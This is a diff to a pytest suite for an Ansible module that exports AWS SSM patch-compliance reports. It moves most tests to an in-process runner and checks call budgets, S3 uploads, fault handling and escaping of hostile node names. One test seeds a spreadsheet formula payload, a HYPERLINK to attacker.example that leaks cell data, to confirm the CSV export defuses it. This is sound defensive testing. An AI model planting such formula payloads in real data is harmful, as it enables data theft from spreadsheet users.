@@ -19,6 +19,7 @@ import pytest
 
 from ansible_collections.cloudpatch.ssm.plugins.module_utils.compliance import DashboardCounts
 from ansible_collections.cloudpatch.ssm.plugins.module_utils.compliance import report_writer
+from tests.integration.test_bad_inputs import run_in_process
 
 WORKSHOP_NODES = ("App1", "App2", "Web1", "Web2")
 BUCKET = "ssm-command-logs-us-east-1-123456789012"
@@ -211,19 +212,35 @@ def scan_everything(sandbox):
 
 
 def export(run_target, tmp_path, export_args, expect_failure=False, name="result"):
+    """The module through ansible-playbook (the ssm_compliance_export_run target): its registered result."""
     result_path = tmp_path / f"{name}.json"
     run_target("ssm_compliance_export_run", {"export_args": export_args, "result_path": str(result_path),
                                              "expect_failure": expect_failure})
     return json.loads(result_path.read_text())
 
 
-def test_1000_node_export_stays_within_the_call_budget(run_target, agent, tmp_path):
+def export_here(sandbox, export_args, expect_failure=False):
+    """The module in this process (the bad-input suite's runner: the module as Ansible runs it), for the tests
+    of what the module does; those of the Ansible path (a task, its file options, the roles) go through
+    export() or a target. Spares each export an ansible-playbook start-up and a process per task."""
+    with pytest.MonkeyPatch.context() as environment:
+        for variable, value in sandbox.environment().items():
+            environment.setenv(variable, value)
+        result = run_in_process("ssm_compliance_export", export_args)
+    assert "uncaught" not in result, result
+    # What the target asserts of the task, and what Ansible adds to a result that does not say.
+    assert bool(result.get("failed")) == expect_failure, result
+    result.setdefault("changed", False)
+    return result
+
+
+def test_1000_node_export_stays_within_the_call_budget(agent, tmp_path):
     fleet_size = 1000
     agent.seed_nodes(fleet_size, "AMAZON_LINUX_2", kind="hybrid")
     scan_everything(agent)
     agent.clear_calls()
 
-    result = export(run_target, tmp_path, {"report_name": "fleet", "dest": str(tmp_path)})
+    result = export_here(agent, {"report_name": "fleet", "dest": str(tmp_path)})
 
     assert result["report"]["nodes"] == fleet_size
     rows = read_csv((tmp_path / "fleet.csv").read_text())
@@ -251,7 +268,7 @@ def test_1000_node_export_stays_within_the_call_budget(run_target, agent, tmp_pa
     serial_dir = tmp_path / "serial"
     serial_dir.mkdir()
     agent.clear_calls()
-    export(run_target, tmp_path, {"report_name": "fleet", "dest": str(serial_dir), "read_concurrency": 1}, name="serial")
+    export_here(agent, {"report_name": "fleet", "dest": str(serial_dir), "read_concurrency": 1})
     serial = agent.operations()
     assert sorted(serial) == sorted(operations)
     assert serial == (["DescribeTags"] * operations.count("DescribeTags") + ["ListResourceComplianceSummaries"] * pages
@@ -260,7 +277,7 @@ def test_1000_node_export_stays_within_the_call_budget(run_target, agent, tmp_pa
 
     # The HTML page adds the dashboard's activity, a few calls that do not grow with the fleet.
     agent.clear_calls()
-    result = export(run_target, tmp_path, {"report_name": "fleet", "format": "html", "dest": str(tmp_path)}, name="html")
+    result = export_here(agent, {"report_name": "fleet", "format": "html", "dest": str(tmp_path)})
     assert result["report"]["nodes"] == fleet_size
     assert (tmp_path / "fleet.html").read_text().count("<tr data-node=") == fleet_size
     operations = agent.operations()
@@ -268,11 +285,11 @@ def test_1000_node_export_stays_within_the_call_budget(run_target, agent, tmp_pa
     assert len(operations) <= 3 * pages + math.ceil(fleet_size / 1000) + 10
 
 
-def test_s3_object_with_kms_expected_owner_and_prefix(run_target, agent, tmp_path):
+def test_s3_object_with_kms_expected_owner_and_prefix(agent):
     node_ids = workshop(agent)
     scan_everything(agent)
     key_id = agent.client("kms").create_key()["KeyMetadata"]["KeyId"]
-    result = export(run_target, tmp_path, {
+    result = export_here(agent, {
         "report_name": "ssm-workshop", "format": "json", "s3_bucket": BUCKET, "s3_prefix": "reports",
         "server_side_encryption": "aws:kms", "kms_key_id": key_id, "expected_bucket_owner": "123456789012"})
     assert result["changed"] and result["report"]["s3_key"] == "reports/ssm-workshop.json"
@@ -289,13 +306,13 @@ def test_s3_object_with_kms_expected_owner_and_prefix(run_target, agent, tmp_pat
     assert head["ChecksumSHA256"] == base64.b64encode(hashlib.sha256(body).digest()).decode()
 
 
-def test_a_bucket_of_another_owner_gets_nothing(run_target, agent, tmp_path):
+def test_a_bucket_of_another_owner_gets_nothing(agent, tmp_path):
     """expected_bucket_owner: S3 refuses the put (403 AccessDenied); the local copy is not left either."""
     workshop(agent)
     topic_arn, queue_url = sns_to_sqs(agent)
     reports = tmp_path / "reports"
     reports.mkdir()
-    result = export(run_target, tmp_path, {"report_name": "ssm-workshop", "s3_bucket": BUCKET, "dest": str(reports),
+    result = export_here(agent, {"report_name": "ssm-workshop", "s3_bucket": BUCKET, "dest": str(reports),
                                            "expected_bucket_owner": "210987654321", "sns_topic_arn": topic_arn},
                     expect_failure=True)
     assert "put report object" in result["msg"] and "AccessDenied" in json.dumps(result)
@@ -306,7 +323,7 @@ def test_a_bucket_of_another_owner_gets_nothing(run_target, agent, tmp_path):
     assert agent.calls(service="sns", operation="Publish") == []
 
 
-def test_a_failure_half_way_leaves_nothing_behind(run_target, agent, tmp_path, monkeypatch):
+def test_a_failure_half_way_leaves_nothing_behind(agent, tmp_path, monkeypatch):
     workshop(agent)
     scan_everything(agent)
     monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
@@ -314,7 +331,7 @@ def test_a_failure_half_way_leaves_nothing_behind(run_target, agent, tmp_path, m
     reports.mkdir()
     agent.set_fault("s3", "PutObject", error_500_rate=1.0, seed=3)
     try:
-        result = export(run_target, tmp_path, {"report_name": "ssm-workshop", "s3_bucket": BUCKET, "dest": str(reports / "out.csv")},
+        result = export_here(agent, {"report_name": "ssm-workshop", "s3_bucket": BUCKET, "dest": str(reports / "out.csv")},
                         expect_failure=True)
     finally:
         agent.clear_faults()
@@ -323,7 +340,7 @@ def test_a_failure_half_way_leaves_nothing_behind(run_target, agent, tmp_path, m
     assert list(reports.iterdir()) == []
 
 
-def test_a_read_failing_mid_export_leaves_nothing_behind(run_target, agent, tmp_path):
+def test_a_read_failing_mid_export_leaves_nothing_behind(agent, tmp_path):
     """120 nodes are three pages: one call at a time, the second page's patch states fail after the
     first page's rows were written, so the temporary file exists when the export stops."""
     agent.seed_nodes(120, "AMAZON_LINUX_2", kind="hybrid")
@@ -337,7 +354,7 @@ def test_a_read_failing_mid_export_leaves_nothing_behind(run_target, agent, tmp_
     agent.set_fault("ssm", "DescribeInstancePatchStates", access_denied_rate=0.5, seed=10)
     agent.clear_calls()
     try:
-        result = export(run_target, tmp_path, {"report_name": "mid-export", "s3_bucket": "reports-mid-export",
+        result = export_here(agent, {"report_name": "mid-export", "s3_bucket": "reports-mid-export",
                                                "dest": str(reports / "mid-export.csv"), "read_concurrency": 1}, expect_failure=True)
     finally:
         agent.clear_faults()
@@ -349,7 +366,7 @@ def test_a_read_failing_mid_export_leaves_nothing_behind(run_target, agent, tmp_
     assert agent.calls(service="s3", operation="PutObject") == []
 
 
-def test_a_read_failing_in_parallel_stops_the_reads_and_leaves_nothing_behind(run_target, agent, tmp_path):
+def test_a_read_failing_in_parallel_stops_the_reads_and_leaves_nothing_behind(agent, tmp_path):
     """The same failure with the reads in parallel: the error is the page's, as one call at a time;
     once it is seen nothing more is asked for, and nothing is written."""
     agent.seed_nodes(500, "AMAZON_LINUX_2", kind="hybrid")
@@ -361,7 +378,7 @@ def test_a_read_failing_in_parallel_stops_the_reads_and_leaves_nothing_behind(ru
     agent.set_fault("ssm", "DescribeInstancePatchStates", access_denied_rate=0.5, seed=10)
     agent.clear_calls()
     try:
-        result = export(run_target, tmp_path, {"report_name": "mid-export", "s3_bucket": "reports-mid-export",
+        result = export_here(agent, {"report_name": "mid-export", "s3_bucket": "reports-mid-export",
                                                "dest": str(reports / "mid-export.csv"), "read_concurrency": 4}, expect_failure=True)
     finally:
         agent.clear_faults()
@@ -379,16 +396,16 @@ def test_a_read_failing_in_parallel_stops_the_reads_and_leaves_nothing_behind(ru
     assert agent.calls(service="s3", operation="PutObject") == []
 
 
-def test_converges_with_30_percent_throttling(run_target, agent, tmp_path):
+def test_converges_with_30_percent_throttling(agent, tmp_path):
     agent.seed_nodes(120, "AMAZON_LINUX_2", kind="hybrid")
     scan_everything(agent)
     reports = tmp_path / "reports"
     reports.mkdir()
-    export(run_target, tmp_path, {"report_name": "calm", "format": "json", "dest": str(reports)})
+    export_here(agent, {"report_name": "calm", "format": "json", "dest": str(reports)})
     agent.set_faults([{"service": "ssm", "operation": "*", "throttle_rate": 0.3},
                       {"service": "ec2", "operation": "*", "throttle_rate": 0.3}], seed=7)
     try:
-        export(run_target, tmp_path, {"report_name": "throttled", "format": "json", "dest": str(reports)})
+        export_here(agent, {"report_name": "throttled", "format": "json", "dest": str(reports)})
         throttled = [call for call in agent.calls() if call.get("injected")]
     finally:
         agent.clear_faults()
@@ -404,10 +421,10 @@ CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic
 
 
 @pytest.mark.skipif(not CHROMIUM.exists(), reason="headless browser test needs Debian's chromium: apt-get install -y chromium")
-def test_html_dashboard_in_headless_chromium(run_target, agent, tmp_path):
+def test_html_dashboard_in_headless_chromium(agent, tmp_path):
     workshop(agent)
     scan_everything(agent)
-    export(run_target, tmp_path, {"report_name": "dashboard", "format": "html", "dest": str(tmp_path)})
+    export_here(agent, {"report_name": "dashboard", "format": "html", "dest": str(tmp_path)})
     page = tmp_path / "dashboard.html"
     profile = tmp_path / "profile"
     dom = subprocess.run([str(CHROMIUM), *CHROMIUM_FLAGS, f"--user-data-dir={profile}", "--dump-dom", page.as_uri()],
@@ -529,7 +546,7 @@ def test_an_exported_page_of_hostile_node_names_opens_as_text(run_target, tmp_pa
     sandbox = run_target.sandbox
     for value in HOSTILE:
         sandbox.seed_nodes(1, "AMAZON_LINUX_2", tags={"Name": value})
-    export(run_target, tmp_path, {"report_name": "hostile-names", "format": "html", "dest": str(tmp_path)})
+    export_here(run_target.sandbox, {"report_name": "hostile-names", "format": "html", "dest": str(tmp_path)})
     shape = dom_shape(chromium_dom(tmp_path / "hostile-names.html", tmp_path / "profile"))
     assert not {"img", "script", "iframe"} & set(shape.tags)
     assert not [name for name in shape.attributes if name.startswith("on")]
@@ -543,7 +560,7 @@ def test_a_failed_notification_after_the_write_fails_with_changed_and_says_where
     reports = tmp_path / "reports"
     reports.mkdir()
     missing_topic = "arn:aws:sns:us-east-1:123456789012:nobody-listens"
-    result = export(run_target, tmp_path, {"report_name": "report2026", "s3_bucket": BUCKET, "dest": f"{reports}/",
+    result = export_here(run_target.sandbox, {"report_name": "report2026", "s3_bucket": BUCKET, "dest": f"{reports}/",
                                            "sns_topic_arn": missing_topic}, expect_failure=True)
     assert result["changed"] is True
     assert result["msg"].startswith(f"the report is in place (s3://{BUCKET}/report2026.csv and {reports / 'report2026.csv'}), "
@@ -574,7 +591,7 @@ def test_file_options_and_directory_dest_through_ansible(run_target, tmp_path):
 def test_a_selection_matching_no_node_fails_with_the_region_and_writes_nothing(run_target, tmp_path):
     workshop(run_target.sandbox)
     reports = tmp_path / "reports"
-    result = export(run_target, tmp_path, {"report_name": "nobody", "dest": f"{reports}/", "s3_bucket": BUCKET,
+    result = export_here(run_target.sandbox, {"report_name": "nobody", "dest": f"{reports}/", "s3_bucket": BUCKET,
                                            "patch_groups": ["Nobody"]}, expect_failure=True)
     assert result["msg"] == "0 nodes in us-east-1 matched patch groups Nobody: nothing to report"
     assert not reports.exists()
@@ -585,7 +602,7 @@ def test_a_bucket_that_does_not_exist_is_named_with_the_region(run_target, tmp_p
     run_target.sandbox.seed_nodes(1, "AMAZON_LINUX_2")
     reports = tmp_path / "reports"
     reports.mkdir()
-    result = export(run_target, tmp_path, {"report_name": "fleet", "s3_bucket": "no-such-reports-bucket", "dest": str(reports)},
+    result = export_here(run_target.sandbox, {"report_name": "fleet", "s3_bucket": "no-such-reports-bucket", "dest": str(reports)},
                     expect_failure=True)
     assert result["msg"].startswith("s3_bucket no-such-reports-bucket does not exist (asked from us-east-1)")
     assert result.get("changed") is not True and list(reports.iterdir()) == []
@@ -595,9 +612,9 @@ def test_formula_cells_from_node_data_are_defused_in_the_csv(run_target, tmp_pat
     """A Name tag a spreadsheet would run: quoted in the CSV by default, raw with csv_escape_formulas=false and in JSON."""
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
     [node] = run_target.sandbox.seed_nodes(1, "AMAZON_LINUX_2", tags={"Name": formula})
-    export(run_target, tmp_path, {"report_name": "escaped", "dest": str(tmp_path)}, name="escaped")
-    export(run_target, tmp_path, {"report_name": "raw", "dest": str(tmp_path), "csv_escape_formulas": False}, name="raw")
-    export(run_target, tmp_path, {"report_name": "raw", "format": "json", "dest": str(tmp_path)}, name="json")
+    export_here(run_target.sandbox, {"report_name": "escaped", "dest": str(tmp_path)})
+    export_here(run_target.sandbox, {"report_name": "raw", "dest": str(tmp_path), "csv_escape_formulas": False})
+    export_here(run_target.sandbox, {"report_name": "raw", "format": "json", "dest": str(tmp_path)})
     escaped = read_csv((tmp_path / "escaped.csv").read_text())[1]
     assert escaped[1] == node and escaped[2] == "'" + formula and escaped[0] == "1"
     assert read_csv((tmp_path / "raw.csv").read_text())[1][2] == formula
